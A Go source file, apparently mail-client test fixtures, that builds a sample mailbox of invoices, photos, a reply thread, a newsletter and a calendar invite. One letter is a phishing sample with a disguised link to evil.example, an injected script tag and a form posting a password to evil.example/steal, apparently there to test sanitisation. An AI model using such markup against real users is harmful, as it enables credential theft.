package house

import (
	"fmt"
	"slices"
	"time"
)

// letters is what Ann finds in her mailbox: the sorts of mail that people get.
func letters(now time.Time) []Letter {
	ago := func(d time.Duration) time.Time { return now.Add(-d) }
	const day = 24 * time.Hour
	out := []Letter{
		{From: "billing@shop.example", Name: "Shop", Subject: "Your invoice 2026-1187", ID: "inv1187@shop.example", At: ago(9 * day),
			Plain: "Dear Ann,\n\nthank you for your order. The invoice is attached.\n\nThe Shop\n", Files: []File{{"invoice-1187.pdf", "application/pdf", paper("Invoice 2026-1187")}}},
		{From: "mara@far.example", Name: "Mara Lindqvist", Subject: "Photos from the harbour", ID: "photos@far.example", At: ago(6 * day),
			Plain: "Hej Ann,\n\nhere they are. The second is my favourite.\n\nMara\n", HTML: `<p>Hej Ann,</p><p>here they are. The <b>second</b> is my favourite.</p><p><img src="cid:sunset.png" width="320" alt="Sunset"></p><p>Mara</p>`,
			Inline: []File{{"sunset.png", "image/png", picture(640, 360)}}, Files: []File{{"harbour.png", "image/png", picture(800, 600)}, {"notes.txt", "text/plain", []byte("Taken on the pier, 19:40.\r\n")}}},
		{From: "kim@two.example", Name: "Kim Example", Subject: "Thursday", ID: "thu1@two.example", At: ago(5 * day), Plain: "Hi Ann,\n\nshall we meet on Thursday at ten?\n\nKim\n"},
		{From: "kim@two.example", Name: "Kim Example", Subject: "Re: Thursday", ID: "thu2@two.example", Answers: "thu1@two.example", At: ago(5*day - 3*time.Hour),
			Plain: "Or at eleven, if that is better.\n\nOn Thursday, Kim wrote:\n> Hi Ann,\n>\n> shall we meet on Thursday at ten?\n"},
		{From: "kim@two.example", Name: "Kim Example", Subject: "Re: Thursday", ID: "thu3@two.example", Answers: "thu2@two.example", At: ago(4 * day), Plain: "Eleven it is. The café by the station?\n\nKim\n"},
		{From: "news@weekly.example", Name: "The Weekly", Subject: "This week: bridges, bread and a very long subject that does not fit into one line of any list", ID: "w47@weekly.example", At: ago(2 * day),
			Header: "List-Unsubscribe: <https://weekly.example/leave>\r\nList-Id: The Weekly <weekly.weekly.example>\r\n", Plain: "Bridges, bread.\n\nRead on: https://weekly.example/47\n",
			HTML: `<html><body style="background:#eee"><table width="600" align="center" bgcolor="#ffffff"><tr><td style="padding:24px;font-family:Georgia,serif"><h1 style="color:#204060">The Weekly</h1>
<img src="https://pictures.weekly.example/bridge.jpg" width="552" height="200" alt="A bridge"><p>Bridges are built, and bread is baked. <a href="https://weekly.example/47">Read on</a>.</p>
<img src="https://track.weekly.example/open?id=ann" width="1" height="1"></td></tr></table></body></html>`},
		{From: "calendar@far.example", Name: "Mara Lindqvist", Subject: "Invitation: boat trip", ID: "boat@far.example", At: ago(30 * time.Hour), Plain: "Come with us on Saturday.\n",
			Files: []File{{"invite.ics", "text/calendar", []byte("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//far//1\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:boat1\r\nDTSTAMP:20261120T100000Z\r\nDTSTART:20261128T090000Z\r\nDTEND:20261128T150000Z\r\nSUMMARY:Boat trip\r\nLOCATION:Harbour, pier 4\r\nORGANIZER;CN=Mara:mailto:mara@far.example\r\nATTENDEE;CN=Ann:mailto:ann@one.example\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")}}},
		{From: "eleni@far.example", Name: "Ελένη Παππά", Subject: "Ευχαριστώ για το γράμμα", ID: "eleni@far.example", At: ago(20 * time.Hour), Plain: "Αγαπητή Ann,\n\nευχαριστώ για το γράμμα σου.\n\nΕλένη\n"},
		{From: "ben@partner.example", Name: "Ben Partner", Subject: "Contract, second draft", ID: "contract@partner.example", At: ago(3 * time.Hour),
			Plain: "Ann,\n\nplease look at section 4, and tell me by Friday.\n\nBen\n-- \nBen Partner, Partner Ltd\n", Files: []File{{"contract.pdf", "application/pdf", paper("Contract, second draft")}}},
		{From: "security@ban\u006b-of-trust.example", Name: "Your Bank", Subject: "Your account is locked", ID: "phish@bad.example", At: ago(90 * time.Minute), Plain: "Click the link.\n",
			HTML: `<p>Your account is locked. <a href="https://evil.example/login">https://www.bank-of-trust.example/login</a></p><script>document.title='owned'</script><form action="https://evil.example/steal"><input name="password"><button>Go</button></form>`},
		{From: "mara@far.example", Name: "Mara Lindqvist", Subject: "Recipe for the bread", ID: "bread@far.example", At: ago(40 * time.Minute), Plain: "Flour 500 g\nWater 350 g\nSalt 10 g\nTime: a day\n\nMara\n"},
	}
	for i := range 24 {
		out = append(out, Letter{From: fmt.Sprintf("list%d@lists.example", i%5), Name: fmt.Sprintf("Gardeners %d", i%5), Subject: fmt.Sprintf("Garden notes, no. %d", i+1), ID: fmt.Sprintf("garden%d@lists.example", i),
			At: ago(10*day + time.Duration(i)*7*time.Hour), Plain: fmt.Sprintf("Note %d: the leaves are falling, and the beds want cover before the frost.\n", i+1)})
	}
	for i := range out {
		out[i].To = Ann
	}
	slices.SortStableFunc(out, func(a, b Letter) int { return a.At.Compare(b.At) })
	return out
}
